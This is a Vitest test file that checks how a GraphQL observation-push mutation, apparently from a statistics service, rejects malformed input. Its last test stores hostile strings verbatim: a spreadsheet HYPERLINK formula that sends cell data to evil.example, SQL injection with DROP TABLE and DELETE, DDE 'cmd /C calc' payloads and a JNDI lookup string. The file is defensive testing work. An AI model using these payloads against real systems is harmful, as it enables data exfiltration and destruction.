import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { describeEachDb } from '../helpers/databases';
import { push, pushRaw, PUSH_MUTATION, readBack } from '../helpers/push';
import { ADMIN, errorCode, errorReason, startTestServer, type GqlResponse, type TestServer } from '../helpers/server';

const good = { unitCode: '392', indicatorCode: 'THU_NHAP_BQ', period: '2024', value: 60, status: 'OFFICIAL' as const };

describeEachDb('pushObservations: malformed input', (db) => {
  let t: TestServer;
  let fingerprint: string;
  beforeAll(async () => {
    t = await startTestServer(db);
  });
  afterAll(() => t?.stop());

  /** Everything a push could touch. */
  const snapshot = async () => {
    const q = (sql: string) => t.server.ds.query(sql);
    const [obs, revs, batches] = await Promise.all([
      q('SELECT unit_id, indicator_id, period, value, status, source, note, version FROM observation ORDER BY id'),
      q('SELECT COUNT(*) AS n, MAX(id) AS m FROM observation_revision'),
      q('SELECT COUNT(*) AS n FROM push_batch'),
    ]);
    return JSON.stringify([obs, revs, batches]);
  };
  beforeEach(async () => {
    fingerprint = await snapshot();
  });
  const expectUnchanged = async () => expect(await snapshot()).toBe(fingerprint);

  const raw = async (body: string): Promise<GqlResponse> => {
    const res = await fetch(`${t.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${ADMIN}` },
      body,
    });
    return { ...(await res.json()), status: res.status };
  };
  const expectBadInput = (res: GqlResponse, reason?: string) => {
    expect(res.data?.pushObservations ?? null).toBeNull();
    expect(errorCode(res)).toBe('BAD_USER_INPUT');
    if (reason) expect(errorReason(res)).toBe(reason);
    expect(res.errors![0].message.length).toBeLessThan(500);
  };

  it('rejects wrong GraphQL types as BAD_USER_INPUT', async () => {
    for (const bad of [
      { ...good, value: 'sixty' },
      { ...good, value: [1] },
      { ...good, unitCode: 392 },
      { ...good, period: 2024 },
      { ...good, baseVersion: 1.5 },
      { ...good, baseVersion: 2 ** 31 },
      { ...good, baseVersion: 'latest' },
      { indicatorCode: 'THU_NHAP_BQ', period: '2024', value: 1 },
      { ...good, status: 'FINAL' },
      { ...good, status: 'official' },
      { ...good, extra: 'field' },
    ]) {
      expectBadInput(await pushRaw(t, [bad]));
    }
    expectBadInput(await t.gql(PUSH_MUTATION, { input: { rows: null } }));
    expectBadInput(await t.gql(PUSH_MUTATION, { input: { rows: [good], atomic: 'yes' } }));
    expectBadInput(await t.gql(PUSH_MUTATION, { input: { rows: [null] } }));
    await expectUnchanged();
  });

  it('rejects NaN and Infinity, which neither JSON nor GraphQL Float can carry', async () => {
    const body = (value: string) =>
      `{"query":${JSON.stringify(PUSH_MUTATION)},"variables":{"input":{"rows":[{"unitCode":"392","indicatorCode":"THU_NHAP_BQ","period":"2024","value":${value}}]}}}`;
    for (const v of ['NaN', 'Infinity', '-Infinity', '1e400', '-1e400', '"NaN"', '"Infinity"']) {
      const res = await raw(body(v));
      expect(res.status).toBeGreaterThanOrEqual(400);
      expectBadInput(res);
    }
    const inline = await t.gql(
      'mutation { pushObservations(input: { rows: [{ unitCode: "392", indicatorCode: "THU_NHAP_BQ", period: "2024", value: NaN }] }) { applied } }',
    );
    expectBadInput(inline);
    await expectUnchanged();
  });

  // 'refuses more than 50,000 rows as a whole, and takes exactly 50,000' is in test/service/push-bulk.test.ts.

  it('refuses a 10 MB note or source row by row without echoing it, and an oversized body as a whole', async () => {
    // 10 MB of UTF-8 ("đ" is two bytes), one huge field per request to stay under the 32 MB body limit.
    const huge = 'đ'.repeat(5 * 1024 * 1024);
    const res = await push(
      t,
      [
        { ...good, note: huge },
        { ...good, period: '2021', note: 'x'.repeat(2001) },
        { ...good, period: '2020', source: 'x'.repeat(501) },
      ],
      { atomic: false },
    );
    const bigSource = await push(t, [{ ...good, period: '2023', source: huge }]);
    const bigCode = await push(t, [{ ...good, period: '2022', unitCode: huge }]);
    res.rows.push(bigSource.rows[0], bigCode.rows[0]);
    expect(res.rows.map((r) => [r.outcome, r.code, r.field])).toEqual([
      ['INVALID', 'TEXT_TOO_LONG', 'note'],
      ['INVALID', 'TEXT_TOO_LONG', 'note'],
      ['INVALID', 'TEXT_TOO_LONG', 'source'],
      ['INVALID', 'TEXT_TOO_LONG', 'source'],
      ['INVALID', 'UNKNOWN_UNIT', 'unitCode'],
    ]);
    for (const r of res.rows) expect(r.message!.length).toBeLessThan(300);
    await expectUnchanged();
    const tooBig = await raw(
      JSON.stringify({
        query: PUSH_MUTATION,
        variables: { input: { rows: [{ ...good, note: 'x'.repeat(33 * 1024 * 1024) }] } },
      }),
    );
    expect(tooBig.status).toBe(413);
    expect(errorCode(tooBig)).toBe('BAD_USER_INPUT');
    await expectUnchanged();
  });

  it('refuses every malformed period, code, status and version per row', async () => {
    const periods = [
      '2023-13',
      '2023-Q5',
      '2023-H3',
      '23',
      '2023 ',
      ' 2023',
      '2023-1',
      '2023..2023',
      '2024..2023',
      '2023-00',
      '1899',
      '2023/2024',
      '',
      '2023-q3',
      '2023–2025',
    ];
    const res = await push(
      t,
      [
        ...periods.map((period) => ({ ...good, period })),
        { ...good, unitCode: '' },
        { ...good, unitCode: '0392' },
        { ...good, indicatorCode: 'thu_nhap_bq' },
        { ...good, baseVersion: 0 },
        { ...good, baseVersion: -3 },
      ],
      { atomic: false },
    );
    expect(res.rows.map((r) => r.code)).toEqual([
      ...periods.map(() => 'INVALID_PERIOD'),
      'UNKNOWN_UNIT',
      'UNKNOWN_UNIT',
      'UNKNOWN_INDICATOR',
      'INVALID_BASE_VERSION',
      'INVALID_BASE_VERSION',
    ]);
    expect(res).toMatchObject({ applied: true, created: 0, rejected: periods.length + 5, batchId: null });
    await expectUnchanged();
  });

  it('refuses an over-long idempotency key and text that is not valid Unicode', async () => {
    const longKey = await pushRaw(t, [good], { idempotencyKey: 'k'.repeat(201) });
    expectBadInput(longKey, 'INVALID_IDEMPOTENCY_KEY');
    // The field of a top-level error reaches the client (the service's TOO_MANY_ROWS carries one too).
    expect(longKey.errors![0].extensions!.field).toEqual(['input', 'idempotencyKey']);
    const res = await push(t, [{ ...good, note: 'abc\uD800def' }]);
    expect(res.rows[0]).toMatchObject({ outcome: 'INVALID', code: 'INVALID_TEXT', field: 'note' });
    await expectUnchanged();
  });

  it('stores SQL and spreadsheet-formula text verbatim and never runs it', async () => {
    const texts = [
      '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
      "'); DROP TABLE observation; --",
      '" OR 1=1; DELETE FROM observation_revision WHERE "1"="1',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '-2+3',
      '\\x00 \\\\ %_ ! ${jndi:ldap://x}',
      'Tỷ lệ hộ nghèo giảm 1,2% 🎉\ttab\nnewline\r\n',
      '  leading and trailing spaces  ',
      'NUL\u0000inside',
    ];
    const rows = texts.map((note, i) => ({ ...good, period: String(2001 + i), note, source: note.slice(0, 500) }));
    const res = await push(t, rows);
    expect(res).toMatchObject({ applied: true, created: texts.length });
    const injected = await push(t, [
      { ...good, unitCode: "392' OR '1'='1", period: "2024'; DROP TABLE observation; --" },
    ]);
    expect(injected.rows[0].code).toBe('UNKNOWN_UNIT');
    const stored = await readBack(t, ['392']);
    texts.forEach((note, i) => expect(stored.get(`392|THU_NHAP_BQ|${2001 + i}`)).toMatchObject({ note, source: note }));
    expect(res.rows.map((r) => r.observation!.note)).toEqual(texts);
    const tables: { n: number }[] = await t.server.ds.query('SELECT COUNT(*) AS n FROM observation_revision');
    expect(Number(tables[0].n)).toBeGreaterThan(0);
  });
});
